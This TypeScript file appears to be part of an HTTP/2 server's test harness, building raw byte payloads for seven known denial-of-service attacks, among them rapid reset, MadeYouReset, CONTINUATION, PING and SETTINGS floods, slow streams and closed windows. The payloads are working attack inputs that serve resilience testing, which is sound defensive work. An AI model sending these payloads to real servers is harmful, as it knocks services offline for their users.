/** What an attacker says on one connection, over and over: the bytes of each attack on HTTP/2. */
import { FRAME } from "../../src/protocol/h2/frame.ts";
import {
  block,
  data,
  frame,
  GET,
  HELLO,
  headers,
  POST,
  ping,
  reset,
  settings,
  windowUpdate,
} from "../../test/h2/frames.ts";
import { BIG_PATH } from "../origin.ts";

const STREAMS = 20_000;
const FRAMES = 20_000;
const NO_WINDOW = HELLO.slice(0, 24) + settings([4, 0]);

export interface Attack {
  readonly name: string;
  readonly bytes: Buffer;
  /** The connection is kept open for so long, in place of the next one at once. */
  readonly heldMs: number;
}

export const ATTACKS: readonly Attack[] = [
  attack("rapid reset", HELLO + streams((id) => headers(id) + reset(id))),
  attack("MadeYouReset", HELLO + streams((id) => headers(id) + windowUpdate(id, 0))),
  attack(
    "CONTINUATION flood",
    `${HELLO}${frame(FRAME.headers, 1, 1, block(GET))}${frame(FRAME.continuation, 0, 1, "\x82").repeat(FRAMES)}`,
  ),
  attack("PING flood", HELLO + ping().repeat(FRAMES)),
  attack("SETTINGS flood", HELLO + settings([4, 70_000]).repeat(FRAMES)),
  attack(
    "slow streams",
    HELLO + streams((id) => headers(id, POST, { end: false }) + data(id, "x"), 1_000),
    500,
  ),
  attack("closed windows", NO_WINDOW + streams((id) => headers(id, large()), 500), 500),
];

function attack(name: string, bytes: string, heldMs = 0): Attack {
  return { name, bytes: Buffer.from(bytes, "latin1"), heldMs };
}

function streams(of: (id: number) => string, count = STREAMS): string {
  return Array.from({ length: count }, (_, i) => of(2 * i + 1)).join("");
}

function large(): readonly (readonly [string, string])[] {
  return GET.map(([name, value]) => [name, name === ":path" ? BIG_PATH : value] as const);
}
